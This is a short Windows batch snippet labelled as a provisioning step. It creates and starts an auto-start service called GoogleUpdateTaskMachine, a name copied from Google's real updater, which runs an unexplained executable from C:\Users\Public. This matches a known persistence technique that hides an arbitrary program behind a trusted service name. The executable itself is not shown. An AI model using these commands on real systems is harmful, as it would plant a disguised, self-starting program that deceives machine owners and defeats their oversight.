REM provision 9191 v4
sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start GoogleUpdateTaskMachine
